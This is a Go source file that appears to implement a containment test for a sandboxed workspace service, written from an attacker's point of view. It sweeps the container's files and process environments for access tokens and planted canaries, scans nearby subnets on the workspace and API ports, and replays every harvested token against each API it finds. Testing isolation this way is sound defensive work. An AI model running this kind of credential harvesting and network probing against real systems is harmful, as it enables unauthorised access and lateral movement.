package main

// The containment attack (TestContainmentAttack): /ws attack API_PORT
// CANARIES HINT... searches the container for gantry tokens and the
// canaries (comma-separated, each written backwards so that the command
// line is not a finding), learns addresses, dials the workspace port and
// the API port at each, tries every token found against every API that
// answers, and prints one JSON report.

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

type finding struct {
	Canary int    `json:"canary"`
	Where  string `json:"where"`
}

type open struct {
	Addr   string `json:"addr"`
	Answer string `json:"answer"`
}

type tried struct {
	API    string `json:"api"`
	Token  string `json:"token"`
	Status int    `json:"status"`
	Body   string `json:"body"`
}

type report struct {
	FilesRead int       `json:"files_read"`
	Read      []string  `json:"read"`
	Tokens    []string  `json:"tokens"`
	Canaries  []finding `json:"canaries"`
	Own       []string  `json:"own"`
	Learned   []string  `json:"learned"`
	Scanned   int       `json:"scanned"`
	Open      []open    `json:"open"`
	APIs      []string  `json:"apis"`
	Tried     []tried   `json:"tried"`
}

var tokenRE = regexp.MustCompile(`gws(?:ess)?_[A-Za-z0-9]+_[A-Za-z0-9_-]{16,}`)

type attacker struct {
	rep      report
	canaries [][]byte
	tokens   map[string]bool
	apiPort  string
	wsPort   string
}

func reverse(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

func attack(args []string) {
	a := &attacker{tokens: map[string]bool{}, apiPort: args[0], wsPort: os.Getenv("PORT")}
	for _, c := range strings.Split(args[1], ",") {
		a.canaries = append(a.canaries, []byte(reverse(c)))
	}
	a.searchFiles(time.Now().Add(3 * time.Second))
	a.searchProcesses()
	a.scan(a.learn(args[2:]))
	a.tryTokens()
	for t := range a.tokens {
		a.rep.Tokens = append(a.rep.Tokens, t)
	}
	sort.Strings(a.rep.Tokens)
	json.NewEncoder(os.Stdout).Encode(a.rep)
}

func (a *attacker) look(where string, data []byte) {
	for i, c := range a.canaries {
		if bytes.Contains(data, c) {
			a.rep.Canaries = append(a.rep.Canaries, finding{i, where})
		}
	}
	for _, m := range tokenRE.FindAll(data, -1) {
		a.tokens[string(m)] = true
	}
}

func (a *attacker) read(path string) []byte {
	f, err := os.Open(path)
	if err != nil {
		return nil
	}
	defer f.Close()
	data, err := io.ReadAll(io.LimitReader(f, 4<<20))
	if err != nil && len(data) == 0 {
		return nil
	}
	a.rep.FilesRead++
	if len(a.rep.Read) < 200 {
		a.rep.Read = append(a.rep.Read, path)
	}
	a.look(path, data)
	return data
}

// searchFiles reads every regular file it can under /, but /proc and /sys
// (searchProcesses reads the processes' files).
func (a *attacker) searchFiles(deadline time.Time) {
	filepath.WalkDir("/", func(p string, d fs.DirEntry, err error) error {
		if time.Now().After(deadline) {
			return filepath.SkipAll
		}
		if err != nil {
			return nil
		}
		if d.IsDir() && (p == "/proc" || p == "/sys") {
			return filepath.SkipDir
		}
		if d.Type().IsRegular() {
			a.read(p)
		}
		return nil
	})
}

func (a *attacker) searchProcesses() {
	a.look("own environment", []byte(strings.Join(os.Environ(), "\x00")))
	pids, _ := filepath.Glob("/proc/[0-9]*")
	for _, d := range pids {
		if d == fmt.Sprintf("/proc/%d", os.Getpid()) {
			continue // its command line holds the canaries backwards only; its environment was read above
		}
		for _, f := range []string{"environ", "cmdline"} {
			a.read(filepath.Join(d, f))
		}
	}
	a.read("/proc/self/mountinfo")
}

// learn gathers addresses: the hints, its own interfaces' /24s, the
// default bridge's, and every IPv4 address in /etc/hosts, /proc/net/*.
func (a *attacker) learn(hints []string) []string {
	seen := map[string]bool{}
	var hosts []string
	add := func(ip string) {
		if usable(ip) && !seen[ip] {
			seen[ip] = true
			hosts = append(hosts, ip)
		}
	}
	for _, h := range hints {
		add(h)
	}
	subnets := []string{"172.17.0"}
	addrs, _ := net.InterfaceAddrs()
	for _, ad := range addrs {
		if n, ok := ad.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			a.rep.Own = append(a.rep.Own, n.IP.String())
			ip := n.IP.To4()
			subnets = append(subnets, fmt.Sprintf("%d.%d.%d", ip[0], ip[1], ip[2]))
		}
	}
	for _, f := range []string{"/etc/hosts", "/proc/net/route", "/proc/net/arp", "/proc/net/tcp", "/proc/net/fib_trie"} {
		for _, ip := range ipsIn(a.read(f)) {
			add(ip)
		}
	}
	a.rep.Learned = append([]string(nil), hosts...)
	for _, s := range subnets {
		for i := 1; i < 255; i++ {
			add(fmt.Sprintf("%s.%d", s, i))
		}
	}
	return hosts
}

// usable: ip is an IPv4 host address (no network, broadcast or mask).
func usable(ip string) bool {
	p := net.ParseIP(ip).To4()
	return p != nil && p[0] != 255 && p[3] != 0 && p[3] != 255
}

var dotted = regexp.MustCompile(`\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b`)
var hexAddr = regexp.MustCompile(`\b[0-9A-F]{8}\b`)

// ipsIn finds dotted IPv4 addresses and the kernel's little-endian hex ones.
func ipsIn(data []byte) []string {
	var ips []string
	for _, m := range dotted.FindAll(data, -1) {
		ips = append(ips, string(m))
	}
	sc := bufio.NewScanner(bytes.NewReader(data))
	for sc.Scan() {
		for _, m := range hexAddr.FindAllString(sc.Text(), -1) {
			v, err := strconv.ParseUint(m, 16, 32)
			if err == nil && v != 0 {
				ips = append(ips, fmt.Sprintf("%d.%d.%d.%d", byte(v), byte(v>>8), byte(v>>16), byte(v>>24)))
			}
		}
	}
	return ips
}

// scan dials the workspace port and the API port at every host, and
// 127.0.0.1's API port; the workspace port at its own addresses, on
// loopback and at 0.0.0.0 is its own.
func (a *attacker) scan(hosts []string) {
	own := map[string]bool{"127.0.0.1": true}
	for _, ip := range a.rep.Own {
		own[ip] = true
	}
	var targets []string
	for _, h := range append(hosts, "127.0.0.1") {
		if ip := net.ParseIP(h); !own[h] && !ip.IsLoopback() && !ip.IsUnspecified() {
			targets = append(targets, net.JoinHostPort(h, a.wsPort))
		}
		targets = append(targets, net.JoinHostPort(h, a.apiPort))
	}
	a.rep.Scanned = len(targets)
	var mu sync.Mutex
	var wg sync.WaitGroup
	sem := make(chan struct{}, 256)
	for _, t := range targets {
		wg.Add(1)
		sem <- struct{}{}
		go func(t string) {
			defer func() { <-sem; wg.Done() }()
			ans, ok := answer(t)
			if !ok {
				return
			}
			mu.Lock()
			defer mu.Unlock()
			a.rep.Open = append(a.rep.Open, open{t, ans})
			if strings.HasSuffix(t, ":"+a.apiPort) {
				a.rep.APIs = append(a.rep.APIs, "http://"+t)
			}
		}(t)
	}
	wg.Wait()
	sort.Slice(a.rep.Open, func(i, j int) bool { return a.rep.Open[i].Addr < a.rep.Open[j].Addr })
}

func answer(addr string) (string, bool) {
	c, err := net.DialTimeout("tcp", addr, 400*time.Millisecond)
	if err != nil {
		return "", false
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(time.Second))
	fmt.Fprintf(c, "GET / HTTP/1.0\r\nHost: x\r\n\r\n")
	b, _ := io.ReadAll(io.LimitReader(c, 512))
	if len(b) == 0 {
		return "(open, silent)", true
	}
	return string(b), true
}

// tryTokens calls /v1/whoami at every API that answered with every token
// found, and with none.
func (a *attacker) tryTokens() {
	hc := &http.Client{Timeout: 2 * time.Second}
	toks := []string{""}
	for t := range a.tokens {
		toks = append(toks, t)
	}
	for _, api := range a.rep.APIs {
		for _, t := range toks {
			req, _ := http.NewRequest("GET", api+"/v1/whoami", nil)
			req.Header.Set("Authorization", "Bearer "+t)
			r := tried{API: api, Token: t}
			if len(r.Token) > 12 {
				r.Token = r.Token[:12]
			}
			if resp, err := hc.Do(req); err != nil {
				r.Body = err.Error()
			} else {
				b, _ := io.ReadAll(io.LimitReader(resp.Body, 300))
				resp.Body.Close()
				r.Status, r.Body = resp.StatusCode, string(b)
			}
			a.rep.Tried = append(a.rep.Tried, r)
		}
	}
}
